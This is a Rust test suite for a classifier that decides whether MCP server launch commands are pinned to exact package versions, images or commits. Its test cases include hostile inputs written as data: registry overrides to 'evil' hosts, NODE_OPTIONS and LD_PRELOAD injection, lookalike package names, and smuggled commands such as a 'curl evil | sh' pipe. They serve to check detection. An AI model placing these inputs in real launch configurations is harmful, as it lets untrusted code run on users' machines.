//! One line an attack; a spelling that is not listed as exact must never become so by accident.

use serde_json::json;

use super::*;

fn of(raw: Value) -> Launch {
    crate::inventory::launch_of(raw)
}

fn line(text: &str) -> Launch {
    let words: Vec<&str> = text.split(' ').collect();
    of(json!({"command": words[0], "args": &words[1..]}))
}

const HEX: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

#[test]
fn exact_launchers() {
    for (text, package, version) in [
        ("npx -y @acme/files@1.2.3", "@acme/files", "1.2.3"),
        (
            "npx @acme/files@1.2.3 --registry=x /home",
            "@acme/files",
            "1.2.3",
        ),
        (
            "npx --yes --package=@acme/files@1.2.3 files-server",
            "@acme/files",
            "1.2.3",
        ),
        (
            "npx -p files@1.2.3-beta.1 -- files --port 1",
            "files",
            "1.2.3-beta.1",
        ),
        ("npx -- files@1.2.3", "files", "1.2.3"),
        ("npx.cmd -y files@1.2.3", "files", "1.2.3"),
        ("npm exec -y files@1.2.3", "files", "1.2.3"),
        ("npm exec files@1.2.3 -- --registry=x", "files", "1.2.3"),
        ("npm x --package files@1.2.3 -- files", "files", "1.2.3"),
        ("pnpm dlx files@1.2.3", "files", "1.2.3"),
        ("pnpx files@1.2.3", "files", "1.2.3"),
        ("yarn dlx -q files@1.2.3", "files", "1.2.3"),
        ("bunx files@1.2.3", "files", "1.2.3"),
        ("bun x files@1.2.3", "files", "1.2.3"),
        (
            "uvx mcp-server-git==2025.1.14",
            "mcp-server-git",
            "2025.1.14",
        ),
        (
            "uvx mcp-server-git@2025.1.14 --repository /x",
            "mcp-server-git",
            "2025.1.14",
        ),
        ("uvx --from x[cli]==1.2.3rc1 x-server", "x[cli]", "1.2.3rc1"),
        ("uvx --from=x==1.2.3 --with y==2.0 x", "x", "1.2.3"),
        ("uvx --with y==2.0 x==1.0.post1", "x", "1.0.post1"),
        ("uv tool run x==1.0.dev2", "x", "1.0.dev2"),
        ("pipx run --spec x==1.2.3 x", "x", "1.2.3"),
        ("pipx run x==1.2.3", "x", "1.2.3"),
        ("deno run -A npm:x@1.2.3", "x", "1.2.3"),
        ("deno run --allow-net=h jsr:@s/x@1.2.3", "@s/x", "1.2.3"),
        ("env TOKEN=1 npx x@1.2.3", "x", "1.2.3"),
        ("sudo -n -u me npx x@1.2.3", "x", "1.2.3"),
        ("nice -n 5 npx x@1.2.3", "x", "1.2.3"),
        ("timeout 30s npx x@1.2.3", "x", "1.2.3"),
        ("cmd /c npx -y x@1.2.3", "x", "1.2.3"),
    ] {
        let launcher = text.split("npm:").next().unwrap_or_default();
        let ecosystem = match launcher {
            _ if text.contains("jsr:") => Ecosystem::Jsr,
            _ if ["uv", "pipx"]
                .iter()
                .any(|python| launcher.starts_with(python)) =>
            {
                Ecosystem::Python
            }
            _ => Ecosystem::Npm,
        };
        let exact = Launch::Exact {
            ecosystem,
            package: package.to_owned(),
            version: version.to_owned(),
        };
        assert_eq!(line(text), exact, "{text}");
    }
    for commit in [HEX.get(..40).unwrap_or_default(), HEX] {
        for text in [
            format!("uvx --from git+https://git.example/acme/mcp@{commit} acme-mcp"),
            format!(
                "uvx --from git+ssh://git@git.example/acme/mcp@{commit}#subdirectory=src/mcp acme-mcp"
            ),
            format!("uvx git+https://TOKEN@git.example/acme/mcp@{commit}"),
        ] {
            let exact = Launch::Exact {
                ecosystem: Ecosystem::Git,
                package: "git.example/acme/mcp".to_owned(),
                version: commit.to_owned(),
            };
            assert_eq!(line(&text), exact, "{text}");
        }
    }
    let image = line(&format!(
        "docker run -i --rm -e TOKEN -v /a:/b ghcr.example/acme/x:1@sha256:{HEX} --port 1"
    ));
    let exact = Launch::Exact {
        ecosystem: Ecosystem::Image,
        package: "ghcr.example/acme/x:1".to_owned(),
        version: format!("sha256:{HEX}"),
    };
    assert_eq!(image, exact);
    assert!(matches!(
        line(&format!("podman container run x@sha256:{HEX}")),
        Launch::Exact { .. }
    ));
}

#[test]
fn unpinned_launchers() {
    for text in [
        // no version, a range, a tag
        "npx x",
        "npx -y x",
        "npx x@",
        "npx x@latest",
        "npx x@next",
        "npx x@1",
        "npx x@1.2",
        "npx x@1.2.x",
        "npx x@^1.2.3",
        "npx x@~1.2.3",
        "npx x@>=1.2.3",
        "npx x@1.2.3||*",
        "npx x@=1.2.3",
        "npx x@v1.2.3",
        "npx x@01.2.3",
        "npx x@1.2.3+a",
        "npx x@9007199254740992.0.0",
        "npx x@99999999999999999999.0.0",
        "npx x@*",
        "npx @acme/x",
        "npx @acme@1.2.3",
        "npx @1.2.3",
        // not a registry's package
        "npx x@npm:evil@1.2.3",
        "npx acme/x",
        "npx github:acme/x#1.2.3",
        "npx git+https://h/x@1.2.3",
        "npx https://h/x-1.2.3.tgz",
        "npx file:../x@1.2.3",
        "npx ./x@1.2.3",
        "npx ../x@1.2.3",
        "npx /x@1.2.3",
        "npx ~/x@1.2.3",
        "npx x\u{200b}@1.2.3",
        "npx \u{445}@1.2.3",
        "npx ${PKG}@1.2.3",
        "npx x@${VERSION}",
        // flags
        "npx",
        "npx -y",
        "npx --",
        "npx -p x@1.2.3",
        "npx -p x npx",
        "npx -p x@1.2.3 -p y x",
        "npx --package x --package y@1.2.3 y",
        "npx -p x@1.2.3 sh",
        "npx -p x@1.2.3 npx y",
        "npx -p x@1.2.3 -c y",
        "npx -c x@1.2.3",
        "npx --call=x@1.2.3",
        "npx --registry https://evil x@1.2.3",
        "npx --registry=https://evil x@1.2.3",
        "npx --reg=https://evil x@1.2.3",
        "npx --@acme:registry=https://evil @acme/x@1.2.3",
        "npx --userconfig=/tmp/npmrc x@1.2.3",
        "npx --prefix /tmp x@1.2.3",
        "npx --node-options=--require=/x x@1.2.3",
        "npx --yes=x x@1.2.3",
        "npx -yp x y@1.2.3",
        "npm exec x",
        "npm exec x@1.2.3 --registry=https://evil",
        "npm exec x@1.2.3 --package=evil",
        "npm exec x@1.2.3 -c evil",
        "npm --registry=https://evil exec x@1.2.3",
        "npm start",
        "npm run x@1.2.3",
        "npm install x@1.2.3",
        "npm",
        "pnpm exec x@1.2.3",
        "pnpm dlx --allow-build=y x@1.2.3",
        "pnpm --package=x dlx y@1.2.3",
        "pnpm dlx x",
        "yarn x@1.2.3",
        "yarn dlx -p x y",
        "bunx x",
        "bunx --package x y@1.2.3",
        "bun x x@latest",
        "bun install",
        // Python
        "uvx x",
        "uvx x@latest",
        "uvx x==1.*",
        "uvx x==1.2.*",
        "uvx x>=1.2",
        "uvx x==1.2,>1",
        "uvx x==1.2;os_name=='x'",
        "uvx x==1!2.0",
        "uvx x==1.2+local",
        "uvx x==1..2",
        "uvx x==.1",
        "uvx --from x x",
        "uvx --from git+https://h/x@abc x",
        "uvx --from x==1.2.3 python",
        "uvx --with y x==1.2.3",
        "uvx --with y==1.0 x --from z==1.0",
        "uvx --with y==1.0 x",
        "uvx --from x==1.0 --with y x",
        "uvx --index-url https://evil x==1.2.3",
        "uvx --index=https://evil x==1.2.3",
        "uvx -i https://evil x==1.2.3",
        "uvx --extra-index-url https://evil x==1.2.3",
        "uvx --find-links /tmp x==1.2.3",
        "uvx --default-index https://evil x==1.2.3",
        "uvx --with-requirements r.txt x==1.2.3",
        "uvx --with-editable . x==1.2.3",
        "uvx --refresh x==1.2.3",
        "uv tool run x",
        "uv tool install x==1.2.3",
        "uv run --with x==1.2.3 x",
        "uvx python@3.12",
        "pipx run x",
        "pipx run --spec git+https://h/x x",
        "pipx run --pip-args=--index-url=https://evil x==1.2.3",
        "pipx run --index-url https://evil x==1.2.3",
        "pipx run https://h/x.py",
        "python -c import",
        "python3.12 -m pip install x",
        "python -m uv tool run x",
        "python https://h/x.py",
        // containers
        "docker run x",
        "docker run x:1.2.3",
        "docker run x:latest",
        "docker run x@sha256:abc",
        "docker run",
        "docker exec x",
        "docker compose up",
        "docker -H tcp://evil run x",
        "docker run --env-file /x y",
        "podman run x:1",
        // shells, wrappers, other launchers
        "sh -c npx",
        "bash -lc x",
        "bash",
        "zsh x",
        "pwsh -Command x",
        "busybox sh",
        "env npx x",
        "env -S npx",
        "env npm_config_registry=https://evil npx x@1.2.3",
        "env -i NODE_OPTIONS=--import=/x npx x@1.2.3",
        "env PATH=/tmp npx x@1.2.3",
        "env -C /tmp npx x@1.2.3",
        "env",
        "sudo npx x",
        "sudo PATH=/tmp npx x@1.2.3",
        "sudo -i npx x@1.2.3",
        "nice npx x",
        "nice -n 5 env nohup npx x@latest",
        "timeout npx x@1.2.3",
        "timeout 10 npx x",
        "nohup npx x",
        "stdbuf -oL npx x",
        "cmd /c npx x",
        "cmd /k npx x@1.2.3",
        "cmd /c npx x@1.2.3 & evil",
        "cmd /c npx x@%V%",
        "xargs npx x@1.2.3",
        "nix run nixpkgs#x",
        "go run x@latest",
        "cargo run",
        "dnx x@1.2.3",
        "curl https://h/x",
        "ssh host npx x",
        "mise exec -- npx x@1.2.3",
        "smithery run x",
        "tsx x.ts",
        "deno run https://h/x.ts",
        "deno run npm:x",
        "deno run --import-map=m npm:x@1.2.3",
        "deno run -r npm:x@1.2.3",
        "deno x npm:x@1.2.3",
        "node -e x",
        "node --import /x server.js",
        "node -r /x server.js",
        "node data:text/javascript,x",
        "node https://h/x.mjs",
        "node /usr/lib/node_modules/npm/bin/npx-cli.js x",
        "/usr/bin/npx x",
        "/usr/bin/env npx x",
        "NPX x",
        "npx.exe x@latest",
        "n\u{440}x x",
        "npx npm@11.0.0 exec x",
        "npx -y pnpm@9.0.0 dlx x",
        "npx tsx@4.0.0 https://h/x.ts",
        "npx -y @smithery/cli@1.2.3 run x",
        "npx supergateway@1.2.3 --stdio npx",
        "npx dotenv-cli@1.2.3 -- npx x",
        "npx x@1.2.3 --cmd=npx",
        "npx x@1.2.3 /usr/bin/npx",
        "uvx mcpo==1.2.3 -- npx x",
        "uvx uv==0.5.0 tool run x",
        "${CLAUDE_PLUGIN_ROOT}server",
        "${COMMAND}",
        "node ${X}/server.js",
        "${CLAUDE_PLUGIN_ROOT}/run npx x",
        "${CLAUDE_PLUGIN_ROOT}/npx x",
        "my-launcher npx x",
        "my-launcher x@latest",
        "/opt/run npx x@1.2.3",
    ] {
        assert!(
            matches!(line(text), Launch::Unpinned { .. }),
            "{text}: {:?}",
            line(text)
        );
    }
    let long = "env ".repeat(20) + "npx x@1.2.3";
    assert!(matches!(line(&long), Launch::Unpinned { .. }));
    for image in [
        format!("docker run --entrypoint sh x@sha256:{HEX} -c y"),
        format!("docker run x@sha256:{HEX} npx y"),
        format!("docker run x@sha256:{HEX} sh -c y"),
        format!("docker run -e NODE_OPTIONS=--import=x x@sha256:{HEX}"),
        format!("docker run --env=LD_PRELOAD=/x x@sha256:{HEX}"),
        format!("docker run --env-file /x x@sha256:{HEX}"),
        format!("docker run --volumes-from y x@sha256:{HEX}"),
        format!("docker run x@sha256:{}", HEX.to_uppercase()),
        format!("docker run @sha256:{HEX}"),
    ] {
        assert!(matches!(line(&image), Launch::Unpinned { .. }), "{image}");
    }
}

#[test]
fn definitions_that_are_not_command_lines() {
    for raw in [
        json!({}),
        json!({"command": ""}),
        json!({"command": 1}),
        json!({"command": ["npx", "x@1.2.3"]}),
        json!({"command": "npx x@1.2.3"}),
        json!({"command": "npx -y x"}),
        json!({"command": " npx", "args": ["x@1.2.3"]}),
        json!({"command": "npx", "args": "x@1.2.3"}),
        json!({"command": "npx", "args": ["x@1.2.3", 1]}),
        json!({"command": "npx", "args": [["x@1.2.3"]]}),
        json!({"command": "npx", "args": ["x@1.2.3 evil"]}),
        json!({"command": "npx", "args": ["", "x@1.2.3"]}),
        json!({"command": "npx", "args": ["x@1.2.3"], "url": "https://h"}),
        json!({"command": "npx", "args": ["x@1.2.3"], "env": {"npm_config_registry": "https://evil"}}),
        json!({"command": "npx", "args": ["x@1.2.3"], "env": {"NPM_CONFIG_USERCONFIG": "/x"}}),
        json!({"command": "npx", "args": ["x@1.2.3"], "env": {"NODE_OPTIONS": "--import=/x"}}),
        json!({"command": "npx", "args": ["x@1.2.3"], "env": {"PATH": "/tmp"}}),
        json!({"command": "npx", "args": ["x@1.2.3"], "env": {"HOME": "/tmp"}}),
        json!({"command": "npx", "args": ["x@1.2.3"], "env": {"npm_config_https_proxy": "x"}}),
        json!({"command": "npx", "args": ["x@1.2.3"], "env": ["npm_config_registry=x"]}),
        json!({"command": "uvx", "args": ["x==1.2.3"], "env": {"UV_INDEX_URL": "https://evil"}}),
        json!({"command": "pipx", "args": ["run", "x==1.2.3"], "env": {"PIP_INDEX_URL": "https://evil"}}),
        json!({"command": "docker", "args": ["run", format!("x@sha256:{HEX}")], "env": {"DOCKER_HOST": "tcp://evil"}}),
        json!({"command": "cmd", "args": ["/c", "npx -y x@1.2.3"]}),
        json!({"command": "cmd", "args": ["/c", "npx", "x@1.2.3", "a&calc"]}),
        json!({"command": "npx", "args": ["supergateway@1.2.3", "--stdio", "npx -y x"]}),
        json!({"command": "/opt/run", "args": ["sh -c 'x'"]}),
        json!({"url": "file:///x"}),
        json!({"url": 1}),
    ] {
        assert!(
            matches!(of(raw.clone()), Launch::Unpinned { .. }),
            "{raw}: {:?}",
            of(raw.clone())
        );
    }
    for commit in [
        "main",
        "0123456",
        "0123456789abcdef0123456789abcdef0123456g",
        "v1.2.3",
    ] {
        for address in [
            "git+https://git.example/acme/mcp",
            "git+file:///srv/mcp",
            "git+https://git.example",
        ] {
            let args = json!(["--from", format!("{address}@{commit}"), "acme-mcp"]);
            let launch = of(json!({"command": "uvx", "args": args}));
            assert!(matches!(launch, Launch::Unpinned { .. }), "{args}");
        }
    }
    let local = format!("uvx --from git+file:///srv/mcp@{} acme-mcp", &HEX[..40]);
    assert!(matches!(line(&local), Launch::Unpinned { .. }));
    let tokens = json!({"command": "npx", "args": ["x@1.2.3"], "env": {"TOKEN": "a", "HTTPS_PROXY": "http://p"}, "cwd": "/srv"});
    assert!(matches!(of(tokens), Launch::Exact { .. }));
}

#[test]
fn local_and_remote() {
    for text in [
        "/opt/acme/server --port 1",
        "./server",
        "${CLAUDE_PLUGIN_ROOT}/server --port 1",
        "node ${CLAUDE_PLUGIN_ROOT}/server.js",
        "mcp-server-git",
        "node /opt/acme/server.js",
        "node --no-warnings server.mjs",
        "python -u server.py",
        "python3.11 -m mcp_server_git",
        "bash /opt/acme/start.sh",
        "bun run server.ts",
        "deno run -A server.ts",
        "/usr/local/bin/npx -y x@1.2.3",
        "/usr/bin/env npx x@1.2.3",
        "node /usr/lib/node_modules/npm/bin/npx-cli.js x@1.2.3",
    ] {
        assert_eq!(line(text), Launch::LocalCommand, "{text}");
    }
    assert_eq!(
        of(json!({"command": "/Applications/My App/server"})),
        Launch::LocalCommand
    );
    assert_eq!(
        of(json!({"url": "https://u:p@h/x", "type": "http"})),
        Launch::Remote
    );
    assert_eq!(
        of(json!({"command": "", "url": "http://h"})),
        Launch::Remote
    );
}

/// How `npx x@1.2.3` starts with one variable, where the user's home directory is `/home/ada`.
fn with_variable(name: &str, value: &str) -> Launch {
    let server = json!({"command": "npx", "args": ["x@1.2.3"], "env": {name: value}});
    classify(server.as_object().expect("object"), Some("/home/ada"))
}

#[test]
fn variables_that_make_no_launcher_take_other_code() {
    for (name, value) in [
        ("PYTHONUNBUFFERED", "1"),
        ("NODE_ENV", "production"),
        ("GIT_AUTHOR_NAME", "Ada"),
        ("GIT_COMMITTER_EMAIL", "ada@example.org"),
        ("npm_config_loglevel", "silent"),
        ("NODE_OPTIONS", "--max-old-space-size=4096 --no-warnings"),
        ("HOME", "/home/ada"),
        ("HOME", "${HOME}"),
        ("USERPROFILE", "/home/ada/"),
        ("XDG_CONFIG_HOME", "/home/ada/.config"),
        ("XDG_CACHE_HOME", "${HOME}/.cache"),
    ] {
        let launch = with_variable(name, value);
        assert!(matches!(launch, Launch::Exact { .. }), "{name}={value}");
    }
}

#[test]
fn variables_that_do_stay_unpinned() {
    for (name, value) in [
        ("NODE_OPTIONS", "--require /tmp/x.js"),
        ("NODE_OPTIONS", "--max-old-space-size=1 --import=/x"),
        ("NODE_PATH", "/tmp"),
        ("NODE_EXTRA_CA_CERTS", "/tmp/ca.pem"),
        ("PYTHONPATH", "/tmp"),
        ("PYTHONSTARTUP", "/tmp/x.py"),
        ("PYTHONWARNINGS", "error::evil.Warning"),
        ("GIT_SSH_COMMAND", "/tmp/x"),
        ("GIT_PAGER", "/tmp/x"),
        ("GIT_CONFIG_GLOBAL", "/tmp/x"),
        ("NPM_CONFIG_REGISTRY", "https://evil.example/"),
        ("npm_config_script_shell", "/tmp/x"),
        ("HOME", "/tmp/ada"),
        ("HOME", "/home/ada/project"),
        ("HOME", "/home/ada/../eve"),
        ("HOME", "${OTHER}"),
        ("XDG_CONFIG_HOME", "/home/ada/project/.config"),
        ("XDG_CONFIG_DIRS", "/home/ada"),
        ("APPDATA", "/srv"),
    ] {
        let launch = with_variable(name, value);
        assert!(matches!(launch, Launch::Unpinned { .. }), "{name}={value}");
    }
    let server = json!({"command": "npx", "args": ["x@1.2.3"], "env": {"HOME": "/home/ada"}});
    let unknown = classify(server.as_object().expect("object"), None);
    assert!(matches!(unknown, Launch::Unpinned { .. }));
}

#[test]
fn programs_of_a_project_by_uv() {
    for text in [
        "uv --directory /srv/mcp run server.py",
        "uv run --frozen --directory /srv/mcp server.py",
        "uv run --project /srv/mcp acme-mcp --stdio",
        "uv run python -m acme_mcp",
    ] {
        assert_eq!(line(text), Launch::LocalCommand, "{text}");
    }
    for text in [
        "uv run https://evil.example/x.py",
        "uv run --with y server.py",
        "uv run --index-url https://evil.example/ server.py",
        "uv run --env-file /tmp/x server.py",
        "uv run npx x",
        "uv run bash x",
        "uv run python -m pip install x",
        "uv run",
        "uv pip install x",
        "uv sync",
    ] {
        assert!(matches!(line(text), Launch::Unpinned { .. }), "{text}");
    }
}

#[test]
fn a_bridge_is_exact_with_what_it_starts() {
    let bridge = |inner: &str| {
        let args = json!(["-y", "supergateway@3.4.0", "--stdio", inner]);
        of(json!({"command": "npx", "args": args}))
    };
    for inner in ["uvx mcp-server-git==2025.1.14", "npx -y x@1.2.3 --port 1"] {
        assert!(matches!(bridge(inner), Launch::Exact { .. }), "{inner}");
    }
    for inner in [
        "npx -y x",
        "npx x@latest",
        "uvx x==1.2.3; curl evil | sh",
        "uvx x==1.2.3 && npx y",
        "uvx x==1.2.3 $(npx y)",
        "uvx x==1.2.3\nnpx y",
        "sh -c x",
        "A=B uvx x==1.2.3",
        "/tmp/uvx x==1.2.3",
        "npx",
        "npx supergateway@1.2.3 --stdio npx",
    ] {
        assert!(matches!(bridge(inner), Launch::Unpinned { .. }), "{inner}");
    }
}

#[test]
fn npm_settings_are_read_by_what_a_wrapper_starts_too() {
    for spec in [
        "npx -y x@1.2.3",
        "/usr/bin/env npx x@1.2.3",
        "env A=B npm exec x",
        "sh -c 'cd /tmp; npx x'",
        "timeout 5 pnpm dlx x",
        "bun x y",
    ] {
        assert!(reads_npm_settings(spec), "{spec}");
    }
    for spec in [
        "node /srv/npx-like/server.js",
        "uvx x==1.2.3",
        "npm run",
        "",
    ] {
        assert!(!reads_npm_settings(spec), "{spec}");
    }
}

#[test]
fn variables_and_flags_of_public_instructions() {
    let image = format!("mcp/x@sha256:{HEX}");
    for server in [
        json!({"command": "docker", "args": ["run", "-i", "--rm", "-e", "DOCKER_CONTAINER=true", image]}),
        json!({"command": "uvx", "args": ["x==1.2.3"], "env": {"UV_HTTP_TIMEOUT": "300", "UV_LINK_MODE": "copy"}}),
        json!({"command": "npx", "args": ["x@1.2.3"], "env": {"SHELL": "/bin/bash"}}),
        json!({"command": "deno", "args": ["run", "-N", "-R=node_modules", "-W=node_modules", "--node-modules-dir=auto", "jsr:@a/b@0.0.13", "stdio"]}),
    ] {
        let launch = of(server.clone());
        assert!(
            matches!(launch, Launch::Exact { .. }),
            "{server}: {launch:?}"
        );
    }
    for (server, name) in [
        (
            json!({"command": "npx", "args": ["x@1.2.3"], "env": {"SHELL": "/tmp/sh"}}),
            "SHELL",
        ),
        (
            json!({"command": "uvx", "args": ["x==1.2.3"], "env": {"UV_INDEX_URL": "https://evil"}}),
            "UV_INDEX_URL",
        ),
        (
            json!({"command": "docker", "args": ["run", "-e", "DOCKER_HOST=tcp://evil", image]}),
            "DOCKER_HOST",
        ),
        (
            json!({"command": "docker", "args": ["run", "-e", "LD_PRELOAD=/x", image]}),
            "LD_PRELOAD",
        ),
    ] {
        match of(server.clone()) {
            Launch::Unpinned { variable, .. } => assert_eq!(variable.as_deref(), Some(name)),
            other => panic!("{server}: {other:?}"),
        }
    }
}
